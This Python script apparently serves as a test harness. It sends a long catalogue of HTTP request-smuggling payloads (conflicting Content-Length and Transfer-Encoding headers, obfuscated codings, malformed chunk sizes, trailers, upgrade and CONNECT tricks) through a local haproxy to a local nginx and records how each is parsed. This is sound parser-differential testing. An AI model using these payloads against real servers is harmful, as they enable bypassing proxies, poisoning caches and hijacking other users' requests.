#!/usr/bin/env python3
"""Attempts at request smuggling, and what Debian's nginx sees of them behind Debian's haproxy, in `smuggling.json`.

Usage: smuggling.py (half a minute; needs nginx)

The attempts are written from RFC 9112 (sections 2.2, 3.2, 5.1, 5.2, 6.1, 6.3, 7.1 and 11.2) and from what advisories and articles say of
CL.TE, TE.CL, TE.TE, CL.0 and 0.CL attacks (with Expect), of chunk sizes, extensions and line ends that readers differ about, of
trailers, upgrades and targets, and of lengths that overflow. Each ends in a request for
`/smuggled`, which nobody sends where the message is understood as its first reader understands it. Of each is written down
what nginx logged (status, method, target), and the statuses that the client got.
"""

import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.dirname(HERE))
sys.dont_write_bytecode = True

import oracle  # noqa: E402

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
LAST = b"0\r\n\r\n"

NGINX = """daemon off; master_process off; pid {dir}/pid; error_log {dir}/errors;
events {{ worker_connections 64; }}
http {{
    log_format seen '$status $request_method $request_uri';
    access_log {dir}/seen seen;
    client_body_temp_path {dir}/a; proxy_temp_path {dir}/b; fastcgi_temp_path {dir}/c; uwsgi_temp_path {dir}/d; scgi_temp_path {dir}/e;
    server {{ listen 127.0.0.1:{port}; location / {{ return 200 "ok"; }} }}
}}
"""

CONFIG = """
defaults
    mode http
    timeout connect 2s
    timeout client 500ms
    timeout server 2s
    timeout http-request 300ms
    timeout http-keep-alive 100ms
frontend fe
    bind 127.0.0.1:{port:front}
    default_backend be
backend be
    server s1 127.0.0.1:{port:nginx}
"""


def attempts():
    """Name and bytes of each."""
    found = []

    def post(name, headers, body, version="1.1"):
        head = f"POST /first HTTP/{version}\r\nHost: a\r\n".encode() + headers + b"\r\n\r\n"
        found.append((name, head + body))

    te = b"Transfer-Encoding: chunked"
    inner = LAST + SMUGGLED
    length = str(len(inner)).encode()
    # Both lengths.
    post("cl-te", b"Content-Length: " + length + b"\r\n" + te, inner)
    post("te-cl", te + b"\r\nContent-Length: 4", b"%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n" + LAST)
    post("cl-te-1.0", b"Content-Length: " + length + b"\r\n" + te, inner, "1.0")
    post("cl-te-1.0-keep", b"Connection: keep-alive\r\nContent-Length: " + length + b"\r\n" + te, inner, "1.0")
    post("te-1.0-keep", b"Connection: keep-alive\r\n" + te, inner, "1.0")
    # Codings that one reader may not see.
    for name, line in {
        "te-blank-before-colon": b"Transfer-Encoding : chunked",
        "te-tab-before-colon": b"Transfer-Encoding\t: chunked",
        "te-vt": b"Transfer-Encoding:\x0bchunked",
        "te-vt-behind": b"Transfer-Encoding: chunked\x0b",
        "te-ff": b"Transfer-Encoding: \x0cchunked",
        "te-nul": b"Transfer-Encoding: chunked\0",
        "te-cr": b"Transfer-Encoding: \rchunked",
        "te-bare-cr-name": b"X: y\rTransfer-Encoding: chunked",
        "te-bare-lf-name": b"X: y\nTransfer-Encoding: chunked",
        "te-folded": b"Transfer-Encoding:\r\n chunked",
        "te-folded-name": b"X: y\r\n Transfer-Encoding: chunked",
        "te-quoted": b"Transfer-Encoding: \"chunked\"",
        "te-prefix": b"Transfer-Encoding: xchunked",
        "te-suffix": b"Transfer-Encoding: chunkedx",
        "te-parameter": b"Transfer-Encoding: chunked;a=b",
        "te-two": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
        "te-identity-then-chunked": b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        "te-chunked-then-identity": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "te-list": b"Transfer-Encoding: chunked, identity",
        "te-comma-before": b"Transfer-Encoding: ,chunked",
        "te-comma-behind": b"Transfer-Encoding: chunked,",
        "te-empty-then-chunked": b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
        "te-upper": b"Transfer-Encoding: CHUNKED",
        "te-underscore": b"Transfer_Encoding: chunked",
        "te-high": b"Transfer-Encoding: \xa0chunked",
        "te-space-inside": b"Transfer-Encoding: chun ked",
        "te-tab-value": b"Transfer-Encoding:\tchunked\t",
        "te-semicolon": b"Transfer-Encoding: ;chunked",
        "te-x-then-chunked": b"Transfer-Encoding: x, chunked",
        "te-gzip-chunked": b"Transfer-Encoding: gzip, chunked",
        "te-identity": b"Transfer-Encoding: identity",
        "te-nbsp-name": b"Transfer-Encoding\xa0: chunked",
        "te-name-cr": b"\rTransfer-Encoding: chunked",
        "te-name-plus": b"Transfer+Encoding: chunked",
        "te-lead-blank-line": b" Transfer-Encoding: chunked",
        "te-folded-tab": b"Transfer-Encoding: chunked\r\n\t, identity",
        "te-cr-cr-lf": b"X: y\r\r\nTransfer-Encoding: chunked",
        "te-lf-cr": b"X: y\n\rTransfer-Encoding: chunked",
        "te-long-s": b"Tran\xc5\xbffer-Encoding: chunked",
        "te-connection": b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    }.items():
        post(name, b"Content-Length: " + length + b"\r\n" + line, inner)
    # Lengths.
    whole = str(len(SMUGGLED)).encode()
    for name, line in {
        "cl-two": b"Content-Length: 0\r\nContent-Length: " + whole,
        "cl-two-behind": b"Content-Length: " + whole + b"\r\nContent-Length: 0",
        "cl-list": b"Content-Length: 0, " + whole,
        "cl-plus": b"Content-Length: +" + whole,
        "cl-minus": b"Content-Length: -" + whole,
        "cl-hex": b"Content-Length: 0x0",
        "cl-blank-inside": b"Content-Length: 0 " + whole,
        "cl-empty": b"Content-Length:",
        "cl-vt": b"Content-Length: \x0b" + whole,
        "cl-2^64": b"Content-Length: 18446744073709551616",
        "cl-2^64+length": b"Content-Length: " + str(2**64 + len(SMUGGLED)).encode(),
        "cl-2^32+length": b"Content-Length: " + str(2**32 + len(SMUGGLED)).encode(),
        "cl-blank-before-colon": b"Content-Length : " + whole,
        "cl-underscore": b"Content_Length: " + whole,
        "cl-folded": b"Content-Length:\r\n " + whole,
        "cl-bare-cr": b"X: y\rContent-Length: " + whole,
        "cl-nul": b"Content-Length: " + whole + b"\0",
        "cl-name-nul": b"Content-Length\0: " + whole,
        "cl-connection": b"Connection: Content-Length\r\nContent-Length: " + whole,
        "cl-list-same": b"Content-Length: " + whole + b", " + whole,
        "cl-list-empty": b"Content-Length: ," + whole,
        "cl-two-same": b"Content-Length: " + whole + b"\r\nContent-Length: " + whole,
        "cl-zeros": b"Content-Length: 000000000000000000000000" + whole,
        "cl-dot": b"Content-Length: " + whole + b".0",
        "cl-exponent": b"Content-Length: 1e1",
        "cl-quoted": b"Content-Length: \"" + whole + b"\"",
        "cl-comment": b"Content-Length: " + whole + b";a=b",
        "cl-underscored-digits": b"Content-Length: " + whole[:1] + b"_" + whole[1:],
        "cl-high-digits": b"Content-Length: \xd9\xa3\xd9\xa5",
        "cl-nbsp": b"Content-Length:\xa0" + whole,
        "cl-high-in-name": b"Content\xe2\x80\x90Length: " + whole,
        "cl-tab-before-colon": b"Content-Length\t: " + whole,
        "cl-no-colon": b"Content-Length " + whole,
        "cl-lone-lf": b"X: y\nContent-Length: " + whole,
        "cl-empty-name": b": x\r\nContent-Length: " + whole,
    }.items():
        post(name, line, SMUGGLED)
    # Chunks.
    for name, body in {
        "chunk-2^64": b"10000000000000000\r\n" + inner,
        "chunk-minus": b"-1\r\n" + inner,
        "chunk-0x": b"0x0\r\n\r\n" + SMUGGLED,
        "chunk-blank-before": b" 0\r\n\r\n" + SMUGGLED,
        "chunk-word-behind": b"0 x\r\n\r\n" + SMUGGLED,
        "chunk-lf": b"0\n\r\n" + SMUGGLED,
        "chunk-lf-lf": b"0\n\n" + SMUGGLED,
        "chunk-cr": b"0\r\r\n" + SMUGGLED,
        "chunk-cr-x": b"5\rx\nhello\r\n" + inner,
        "chunk-extension-lf": b"0;a\n\r\n" + SMUGGLED,
        "chunk-extension-bare-cr": b"1;a\rb\r\nx\r\n" + inner,
        "chunk-extension-quoted-line": b"1;a=\"\r\n\"\r\nx\r\n" + inner,
        "chunk-data-too-long": b"1\r\nxy\r\n" + inner,
        "chunk-data-end-lf": b"1\r\nx\n" + inner,
        "chunk-data-no-end": b"1\r\nx" + inner,
        "chunk-empty-size": b"\r\n" + inner,
        # A line's end that one reader takes for the end of the line, another for a part of the extension.
        "chunk-term-ext": b"5;\nhello\r\n" + inner,
        "chunk-term-ext-data": b"2;\nxx\r\n" + b"%x\r\n0\r\n\r\n" % len(b"0\r\n\r\n") + SMUGGLED,
        "chunk-ext-term": b"2\r\nxx;\n0\r\n\r\n" + SMUGGLED,
        "chunk-term-spill": b"5\r\nAAAAAXX2\r\n45\r\n" + inner,
        "chunk-spill-term": b"5\r\nAAAAA\r2\r\nXX\r\n" + inner,
        "chunk-one-two": b"5\r\nAAAAA\n" + inner,
        "chunk-zero-two": b"5\r\nAAAAA" + inner,
        "chunk-ext-cr": b"0;\r\r\n\r\n" + SMUGGLED,
        "chunk-ext-nul": b"1;a\0b\r\nx\r\n" + inner,
        "chunk-ext-high": b"1;a=\xff\r\nx\r\n" + inner,
        "chunk-ext-long": b"1;" + b"a" * 3000 + b"\r\nx\r\n" + inner,
        "chunk-ext-blank": b"1 ; a = b\r\nx\r\n" + inner,
        "chunk-tab-behind": b"1\t\r\nx\r\n" + inner,
        "chunk-zeros": b"0" * 40 + b"1\r\nx\r\n" + inner,
        "chunk-plus": b"+1\r\nx\r\n" + inner,
        "chunk-underscore": b"0_1\r\nx\r\n" + inner,
        "chunk-vt": b"\x0b1\r\nx\r\n" + inner,
        "chunk-letter": b"1g\r\nx\r\n" + inner,
        "chunk-2^63": b"8000000000000000\r\n" + inner,
        "chunk-2^64-1": b"ffffffffffffffff\r\n" + inner,
        "chunk-2^32": b"100000000\r\n" + inner,
        "chunk-last-lf-end": b"0\r\n\n" + SMUGGLED,
        "chunk-last-no-end": b"0\r\n" + SMUGGLED,
        "chunk-last-twice": b"0\r\n0\r\n\r\n" + SMUGGLED,
        "trailer-host": b"0\r\nHost: b\r\n\r\n" + SMUGGLED,
        "trailer-name-blank": b"0\r\nContent-Length : 5\r\n\r\n" + SMUGGLED,
        "trailer-nul": b"0\r\nA: b\0\r\n\r\n" + SMUGGLED,
        "trailer-request-line": b"0\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
        "trailer-request-in-value": b"0\r\nA: b\r\nX: GET /smuggled HTTP/1.1\r\n\r\n",
        "trailer-empty-name": b"0\r\n: b\r\n\r\n" + SMUGGLED,
        "trailer-length": b"0\r\nContent-Length: " + whole + b"\r\n\r\n" + SMUGGLED,
        "trailer-coding": b"0\r\nTransfer-Encoding: chunked\r\n\r\n" + SMUGGLED,
        "trailer-fold": b"0\r\nA: b\r\n c\r\n\r\n" + SMUGGLED,
        "trailer-no-colon": b"0\r\nGET /smuggled HTTP/1.1\r\n\r\n",
        "trailer-bare-cr": b"0\r\nA: b\r\r\n\r\n" + SMUGGLED,
        "trailer-lf": b"0\r\nA: b\n\n" + SMUGGLED,
    }.items():
        post(name, te, body)
    # Lines and targets.
    for name, text in {
        "line-lf": b"GET /first HTTP/1.1\nHost: a\n\n" + SMUGGLED,
        "line-cr-lf-cr": b"GET /first HTTP/1.1\r\nHost: a\r\n\rGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
        "line-http-0.9": b"GET /first\r\n" + SMUGGLED,
        "line-version-long": b"GET /first HTTP/1.10\r\nHost: a\r\n\r\n" + SMUGGLED,
        "line-nul": b"GET /first\0 HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "line-blank-in-target": b"GET /first HTTP/1.1 x HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "fold-first": b"GET /first HTTP/1.1\r\n X: y\r\nHost: a\r\n\r\n" + SMUGGLED,
        "host-two": b"GET /first HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n" + SMUGGLED,
        "host-absolute": b"GET http://b/first HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "get-with-body": b"GET /first HTTP/1.1\r\nHost: a\r\nContent-Length: " + whole + b"\r\n\r\n" + SMUGGLED,
        "get-with-body-1.0": b"GET /first HTTP/1.0\r\nHost: a\r\nContent-Length: " + whole + b"\r\n\r\n" + SMUGGLED,
        "expect-with-body": b"POST /first HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: " + whole + b"\r\n\r\n" + SMUGGLED,
        "upgrade-h2c": b"GET /first HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
        b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
        "expect-get-zero": b"GET /first HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 0\r\n\r\n" + SMUGGLED,
        "expect-odd": b"GET /first HTTP/1.1\r\nHost: a\r\nExpect: y 100-continue\r\nContent-Length: " + whole + b"\r\n\r\n" + SMUGGLED,
        "expect-two": b"POST /first HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nExpect: x\r\nContent-Length: " + whole + b"\r\n\r\n" + SMUGGLED,
        "expect-chunked": b"POST /first HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\n" + te + b"\r\n\r\n" + inner,
        "expect-both": b"POST /first HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 5\r\n" + te + b"\r\n\r\n" + inner,
        "expect-folded": b"POST /first HTTP/1.1\r\nHost: a\r\nExpect:\r\n 100-continue\r\nContent-Length: " + whole + b"\r\n\r\n" + SMUGGLED,
        "expect-1.0": b"POST /first HTTP/1.0\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: " + whole + b"\r\n\r\n" + SMUGGLED,
        "upgrade-h2c-body": b"POST /first HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: " + whole + b"\r\n\r\n" + SMUGGLED,
        "upgrade-websocket-body": b"GET /first HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 1\r\nContent-Length: " + whole + b"\r\n\r\n" + SMUGGLED,
        "upgrade-no-connection": b"GET /first HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\n\r\n" + SMUGGLED,
        "connect-to-path": b"CONNECT /first HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "connect-authority": b"CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\n\r\n" + SMUGGLED,
        "connect-other-host": b"CONNECT b:80 HTTP/1.1\r\nHost: a:80\r\n\r\n" + SMUGGLED,
        "connect-body": b"CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\nContent-Length: " + whole + b"\r\n\r\n" + SMUGGLED,
        "head-body": b"HEAD /first HTTP/1.1\r\nHost: a\r\nContent-Length: " + whole + b"\r\n\r\n" + SMUGGLED,
        "trace-body": b"TRACE /first HTTP/1.1\r\nHost: a\r\nContent-Length: " + whole + b"\r\n\r\n" + SMUGGLED,
        "delete-body": b"DELETE /first HTTP/1.1\r\nHost: a\r\n" + te + b"\r\n\r\n" + inner,
        "get-chunked": b"GET /first HTTP/1.1\r\nHost: a\r\n" + te + b"\r\n\r\n" + inner,
        "method-lower": b"get /first HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "method-colon": b"GET: /first HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "method-nul": b"GE\0T /first HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "line-blanks-in-front": b" GET /first HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "line-tabs": b"GET\t/first\tHTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "line-two-blanks": b"GET  /first  HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "line-version-lower": b"GET /first http/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "line-version-1.2": b"GET /first HTTP/1.2\r\nHost: a\r\n\r\n" + SMUGGLED,
        "line-version-2": b"GET /first HTTP/2.0\r\nHost: a\r\n\r\n" + SMUGGLED,
        "line-version-0": b"GET /first HTTP/0.9\r\nHost: a\r\n\r\n" + SMUGGLED,
        "line-fragment": b"GET /first#x HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "line-high": b"GET /fir\xffst HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "line-cr-in-target": b"GET /first\rHost: HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "host-list": b"GET /first HTTP/1.1\r\nHost: a, b\r\n\r\n" + SMUGGLED,
        "host-two-same": b"GET /first HTTP/1.1\r\nHost: a\r\nHost: a\r\n\r\n" + SMUGGLED,
        "host-none": b"GET /first HTTP/1.1\r\n\r\n" + SMUGGLED,
        "host-blank-before-colon": b"GET /first HTTP/1.1\r\nHost : a\r\n\r\n" + SMUGGLED,
        "host-folded": b"GET /first HTTP/1.1\r\nHost:\r\n a\r\n\r\n" + SMUGGLED,
        "host-first-folded": b"GET /first HTTP/1.1\r\nX: y\r\n\tHost: b\r\nHost: a\r\n\r\n" + SMUGGLED,
        "host-userinfo": b"GET http://a@b/first HTTP/1.1\r\nHost: b\r\n\r\n" + SMUGGLED,
        "host-port": b"GET http://a:81/first HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "host-port-80": b"GET http://a:80/first HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "host-path": b"GET /first HTTP/1.1\r\nHost: a/b\r\n\r\n" + SMUGGLED,
        "host-nul": b"GET /first HTTP/1.1\r\nHost: a\0b\r\n\r\n" + SMUGGLED,
        "absolute-no-path": b"GET http://a HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "absolute-query": b"GET http://a?first HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "absolute-other-scheme": b"GET ftp://a/first HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "absolute-backslash": b"GET http:\\\\a\\first HTTP/1.1\r\nHost: a\r\n\r\n" + SMUGGLED,
        "pseudo-header": b"GET /first HTTP/1.1\r\nHost: a\r\n:path: /other\r\n\r\n" + SMUGGLED,
        "name-del": b"GET /first HTTP/1.1\r\nHost: a\r\nX\x7fY: z\r\n\r\n" + SMUGGLED,
        "name-high": b"GET /first HTTP/1.1\r\nHost: a\r\nX\x85: z\r\n\r\n" + SMUGGLED,
        "name-parenthesis": b"GET /first HTTP/1.1\r\nHost: a\r\nX(y): z\r\n\r\n" + SMUGGLED,
        "name-slash": b"GET /first HTTP/1.1\r\nHost: a\r\nX/y: z\r\n\r\n" + SMUGGLED,
        "name-at": b"GET /first HTTP/1.1\r\nHost: a\r\nX@y: z\r\n\r\n" + SMUGGLED,
        "name-blank-inside": b"GET /first HTTP/1.1\r\nHost: a\r\nX y: z\r\n\r\n" + SMUGGLED,
        "value-esc": b"GET /first HTTP/1.1\r\nHost: a\r\nX: \x1b[2J\r\n\r\n" + SMUGGLED,
        "value-nul": b"GET /first HTTP/1.1\r\nHost: a\r\nX: a\0b\r\n\r\n" + SMUGGLED,
        "connection-host": b"GET /first HTTP/1.1\r\nHost: a\r\nConnection: close, Host\r\n\r\n" + SMUGGLED,
        "connection-folded": b"GET /first HTTP/1.1\r\nHost: a\r\nConnection: keep-alive,\r\n close\r\n\r\n" + SMUGGLED,
        "connection-close-then-more": b"GET /first HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n" + SMUGGLED,
        "pri": b"PRI * HTTP/2.0\r\nHost: a\r\n\r\n" + SMUGGLED,
    }.items():
        found.append((name, text))
    return found


def main():
    folder = tempfile.mkdtemp(prefix="nginx-")
    port = oracle.free_port()
    with open(os.path.join(folder, "conf"), "w") as file:
        file.write(NGINX.format(dir=folder, port=port))
    nginx = subprocess.Popen(["nginx", "-c", os.path.join(folder, "conf"), "-p", folder], stderr=subprocess.DEVNULL)
    rows = []
    try:
        with oracle.Oracle(CONFIG, {"nginx": port}) as proxy:
            for name, text in attempts():
                seen = os.path.join(folder, "seen")
                before = os.path.getsize(seen) if os.path.exists(seen) else 0
                with proxy.connect() as client:
                    client.sendall(text)
                    got = oracle.read_all(client)
                # The end of what belongs to this one.
                with proxy.connect("nginx") as direct:
                    direct.sendall(b"GET /end HTTP/1.0\r\n\r\n")
                    oracle.read_all(direct)
                deadline = time.monotonic() + 5
                lines = []
                while lines[-1:] != ["200 GET /end"] and time.monotonic() < deadline:
                    with open(seen, encoding="latin-1") as file:
                        file.seek(before)
                        lines = file.read().splitlines()
                statuses = re.findall(rb"HTTP/1\.1 (\d{3})", got)
                rows.append({
                    "name": name,
                    "sent": text.decode("latin-1"),
                    "nginx": lines[:-1],
                    "client": [int(status) for status in statuses],
                })
    finally:
        nginx.kill()
        nginx.wait()
        shutil.rmtree(folder, ignore_errors=True)
    with open(os.path.join(HERE, "smuggling.json"), "w") as out:
        out.write("[\n" + ",\n".join(json.dumps(row) for row in rows) + "\n]\n")
    print(f"smuggling.json: {len(rows)} attempts")


if __name__ == "__main__":
    main()
